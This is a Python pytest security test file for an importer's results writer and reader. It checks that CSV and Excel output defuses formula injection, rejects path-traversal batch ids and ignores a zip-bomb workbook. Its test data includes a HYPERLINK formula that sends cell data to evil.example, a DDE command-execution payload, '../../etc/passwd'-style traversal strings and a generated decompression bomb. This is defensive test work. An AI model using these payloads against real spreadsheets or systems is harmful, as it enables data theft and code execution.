"""A results file comes from anywhere, and goes into anybody's spreadsheet."""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from importer.errors import ResultsError
from importer.results.results_reader import COLUMNS, batch_id_in, read_results
from importer.results.results_writer import write_results, write_verified
from importer.sheets.rows import encode_cells
from importer.store.records import RowStatus, StoredRow
from importer.text import no_formula
from importer.verification.readings import Difference, ReadingVerdict, ReadRow

pytestmark = pytest.mark.security

BATCH = "b20260731-053350-abcdef"
GUID = "a0eebc99-9c0b-4ef8-bb6d-6bb9bd380a11"
FORMULAS = (
    "=HYPERLINK(\"http://evil.example/?\"&A1)", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1",
    "＝1+1", "said so;=1+1", "said so,=1+1", 'said so\t"=1+1',
)  # fmt: skip
BEGINS = tuple("=+-@＝＋－＠\t\r")


def line(code: str, error: str, cell: str) -> StoredRow:
    cells, at = encode_cells([cell]), "2026-07-31T05:33:50.123Z"
    return StoredRow(2, cells, None, None, RowStatus.FAILED, code, error, attempts=1, changed_at=at)


def as_a_country_reads_it(path: Path, delimiter: str) -> list[str]:
    """Every cell of the file, whichever sign separates them there."""
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return [cell for record in csv.reader(stream, delimiter=delimiter) for cell in record]


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_a_servers_words_are_no_formula_in_a_csv(tmp_path: Path, formula: str, delimiter: str) -> None:
    """In no column of ours, in no country; what the source held is there as it was."""
    lines = [line(formula, formula, "=1+1")]
    path = write_results(tmp_path / "r.csv", lines, batch=BATCH, header=("A",), rows=1).path
    found = as_a_country_reads_it(path, delimiter)
    assert [cell for cell in found if cell.startswith(BEGINS) and cell != "=1+1"] == []
    assert as_a_country_reads_it(path, ",")[-1] == "=1+1"


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_servers_words_are_no_formula_in_a_workbook(tmp_path: Path, formula: str) -> None:
    """Not even after somebody saved it as CSV."""
    lines = [line(formula, formula, "=1+1")]
    path = write_results(tmp_path / "r.xlsx", lines, batch=BATCH, header=("A",), rows=1).path
    _, cells = load_workbook(path)["Results"].iter_rows()
    ours = [str(cell.value) for cell in cells[: len(COLUMNS)]]
    assert [text for text in ours if text.startswith(BEGINS)] == []
    assert [cell.data_type for cell in cells if cell.data_type == "f"] == []
    assert cells[-1].value == "=1+1"


@pytest.mark.parametrize("formula", FORMULAS)
def test_what_leadsquared_holds_is_no_formula_in_the_file_of_verify(tmp_path: Path, formula: str) -> None:
    """`sent`, `stored`, the field's name and what is said of it."""
    differing = Difference(formula, ReadingVerdict.ALTERED, formula, formula, formula)
    row = ReadRow(1, 2, GUID, (), None, None, "2026-07-31T05:33:50.123Z", (differing,))
    write_verified(tmp_path / "v.csv", [row], BATCH, lambda _: None)
    found = as_a_country_reads_it(tmp_path / "v.csv", ",")
    assert [cell for cell in found if cell.startswith(BEGINS)] == []


def test_plain_words_stay_as_they_are() -> None:
    """Only what could be a formula is touched."""
    for text in ("MXInvalidInputException", "a=b", "x - y", "1, 2; 3", "", GUID, "2026-07-31"):
        assert no_formula(text) == text


@pytest.mark.parametrize(
    "batch",
    ["../../etc/passwd", "..\\..\\x", "/tmp/evil", f"{BATCH}/../x", "con", "b\n", "=1+1", "x" * 5_000],
)
@pytest.mark.parametrize("name", ["r.csv", "r.xlsx"])
def test_a_batch_named_in_a_file_has_the_one_shape_or_is_none(tmp_path: Path, batch: str, name: str) -> None:
    """It must never become a path; `run` takes such a file for somebody else's, `resume` refuses it."""
    path = write_results(tmp_path / name, [line("", "", "x")], batch=batch, header=("A",), rows=1).path
    assert batch_id_in(path) is None
    with pytest.raises(ResultsError, match="not a batch's id"), read_results(path):
        pass


def test_a_glance_at_a_workbook_takes_the_hardened_reader(tmp_path: Path) -> None:
    """A small file that unpacks to gigabytes stands where the results are to go; it is passed over."""
    bomb = tmp_path / "visits.results.xlsx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            for _ in range(400):
                part.write(b" " * 1_000_000)
    assert batch_id_in(bomb) is None
    written = write_results(bomb, [line("", "", "x")], batch=BATCH, header=("A",), rows=1)
    assert written.path.name == "visits.results (2).xlsx"
